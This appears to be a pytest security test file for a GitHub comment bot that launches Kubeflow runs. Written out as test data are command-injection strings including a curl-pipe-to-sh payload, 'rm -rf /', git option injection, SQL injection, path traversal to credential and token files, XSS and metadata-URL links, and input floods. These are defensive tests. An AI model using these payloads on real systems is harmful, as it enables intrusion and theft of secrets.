"""What is put into comments, names and files to be taken for something else: rows 48 to 60 of the list in
tests/attacks.toml."""

import re
import subprocess

import pytest

import harness
import texts
from attack_kit import Door, without_code


LITERAL = ["$(id)", "`id`", "a;id", "a|id", "a&&id", "$GITHUB_TOKEN", "${IFS}", "~root", "*", "a\\nb", "%n%s", "{{x}}",
           "--upload-pack=touch", "-oProxyCommand=x", "'); DROP TABLE jobs;--", "../../etc/passwd", "<script>", "[[RunUUI]]",
           "it's", "'; id; '", "\\\"; id; \\\"", "$((1+1))", "<(id)", ">x", "!!", "a\tb"[:1] + "&"]


def test_48_50_51_56_values_stay_literal(scene, bot, ann):
    ann.comments("/build")
    assert bot.ends() == "rocket"
    for value in LITERAL:
        quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
        ann.comments(f"/run --param label={quoted} --name {quoted}" if not value.startswith("-") else
                     f"/run --param label={quoted}")
        assert bot.ends() == "rocket", value
        made = scene.kubeflow.newest_run()
        assert made["parameters"]["label"] == value
        assert value.startswith("-") or made["display_name"].startswith(value)
    assert len(bot.jobs()) == len(LITERAL) + 1
    for line in ("/run --upload-pack=x", "/run -oProxyCommand=x", "/build `id`", "/run --param label='a\nid'",
                 "/run --param label='a' ; id'", "/run --param label=a'", "/run --param label=\"a", "/run --param '--x=1'",
                 "/run --sha --upload-pack=x", "/run -- --upload-pack=x"):
        ann.comments(line)
        bot.reacts("confused")


def test_48_the_binary_knows_no_shell():
    """Its own imports, without those of a sanitizer, and the texts in it. posix_spawnp, which starts the operator's
    credential plugin, looks in PATH as kubectl does; unlike execvp it hands nothing to a shell."""
    binary = harness.daemon_path()
    imports = subprocess.run(["nm", "-D", "--undefined-only", str(binary)], capture_output=True, text=True, check=True).stdout
    called = {line.split()[-1].partition("@")[0] for line in imports.splitlines()}
    assert "main" not in called and called and not called & {"system", "popen", "wordexp", "execlp", "execvp"}
    content = binary.read_bytes()
    for text in (b"sh -c", b"/bin/sh", b"/bin/bash"):
        assert text not in content


SHELL = 'x";curl${IFS}y|sh;"\'`id`'


def test_49_shell_in_branch_tag_title_label_login_and_file_names(scene, bot, ann):
    scene.pull = ann.opens('$(id) "; rm -rf / @org/everyone <b>', SHELL,
                              {"a;id $(id).md": "x\n", "-rf": "x\n", "*.md": "x\n", f"{SHELL}.md": "x\n"})
    git_dir = next(scene.folder.glob("github/git/*"))
    subprocess.run(["git", "--git-dir", str(git_dir), "update-ref", f"refs/tags/{SHELL}", scene.pull.head], check=True)
    door, payload = Door(scene), scene.comment_payload(ann, "/build_run")
    payload["issue"]["labels"] = [{"id": 1, "name": SHELL, "color": "ffffff", "description": SHELL}]
    assert door.send(payload) == 202
    assert bot.ends() == "rocket"
    said = bot.answer("✅")
    assert "@org" not in said and "curl" not in without_code(said)
    payload["comment"]["id"] += 1000
    payload["comment"]["user"]["login"] = payload["sender"]["login"] = SHELL
    assert door.send(payload) == 400  # no login of GitHub's has these characters
    assert len(bot.jobs()) == 1


def test_50_option_injection_in_branches(scene, bot, ann):
    for branch in ("--upload-pack=touch", "-oProxyCommand=touch"):
        scene.pull = ann.opens("An option", branch, {f"{branch}.md": "x\n"})
        ann.comments("/build_run")
        assert bot.ends() == "rocket"


@pytest.mark.parametrize("path", ["../../etc/passwd", "/etc/passwd", "my_pipeline/../../x.yaml", "/proc/self/environ",
                                  "./../x.yaml", "my_pipeline//../..//x", "C:\\\\x.yaml", ".git/config", "-x.yaml", "\"a\\0b.yaml\""])
def test_52_path_escape(scene, bot, ann, path):
    ann.pushes(texts.settings(path))
    ann.comments("/build")
    assert bot.ends() == "-1"
    said = bot.answer()
    assert re.search(r"`(settings\.invalid|compile\.not_found|repo\.bad_path|compile\.invalid)`", said), said
    assert "root:" not in said


def test_52_symbolic_links_that_lead_out(scene, bot, ann):
    for target in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/self/environ", "../../../../etc/passwd"):
        ann.pushes({**texts.settings("my_pipeline/link.yaml"), "my_pipeline/link.yaml": {"symlink": target}})
        ann.comments("/build")
        assert bot.ends() == "-1"
        assert "`repo.bad_path`" in bot.answer()
    ann.pushes({"my_pipeline/link.yaml": None, "config_files": {"symlink": "/etc"}, "config_files/config.yaml": None})
    ann.comments("/build")
    assert bot.ends() == "-1"


STORM = ("@org/everyone @ann fixes #1, closes owner/repo#2 https://evil.example/x ![x](http://169.254.169.254/) "
         "![x](../../var/run/secrets/token) ![x](file:///etc/passwd) "
         "<img src=x onerror=alert(1)> </details> ``` ~~~ | a | b |\n/build_run\n\x1b[31mred\x1b[0m \u202eevil")


def test_26_53_55_mention_and_link_storm(scene, bot, ann):
    scene.kubeflow.fails_runs("train", STORM, (STORM + "\n") * 5)
    ann.comments("/build_run")
    assert bot.ends() == "-1"
    said = bot.answer("`run.failed`")
    plain = without_code(said).replace("asked by @ann", "")
    for active in ("@org", "@ann", "#1", "repo#2", "![x]", "<img", "\x1b", "\u202e"):
        assert active not in plain, f"{active!r} is active in\n{plain}"
    assert plain.count("<details>") == plain.count("</details>") == said.count("<details><summary>")
    assert "\x1b" not in said and "\u202e" not in said
    scene.webhooks_are_idle()
    assert len(bot.jobs()) == 1  # its own comment starts nothing


def test_56_sql(scene, bot, ann):
    evil = "'); DROP TABLE jobs;--"
    person = scene.person("robert-drop-table")
    person.is_given("write")
    scene.pull = ann.opens(evil, "sql'--", {"x'; DROP TABLE jobs;--.md": "x\n"})
    person.comments(f'/build_run --experiment "{evil}" --name "{evil}" --param label="{evil}"')
    assert bot.ends() == "rocket"
    assert scene.kubeflow.parameters()["label"] == evil
    assert {row["name"] for row in bot.rows("SELECT name FROM sqlite_master WHERE type = 'table'")} >= {"jobs", "outbox"}


def test_59_command_flood(door):
    """Whoever took more than linear time would not answer before the door gives up."""
    bot = door.scene.bot
    for text in ("/build\n" * 10_000, "/build\n" + "/nobody\n" * 10_000, "/" * 65_000, "> " * 20_000 + "\n/build x",
                 "`" * 60_000 + "\n/build x", "<!--" * 15_000 + "\n/build x", "[" * 30_000 + "](" * 15_000 + "\n/build x",
                 "*_" * 30_000 + "\n/build x", "/run " + "--param a=b " * 5_000, "/run --name " + "x" * 65_000):
        assert door.send(door.comment(text)) == 202
    door.scene.wait_until(lambda: not bot.unsaid(), "the answers")
    assert bot.jobs() == []
    for item in bot.comments():
        assert "`command." in item["body"] and len(item["body"]) < 1000
        door.scene.github.send("DELETE", f"comments/{item['id']}")
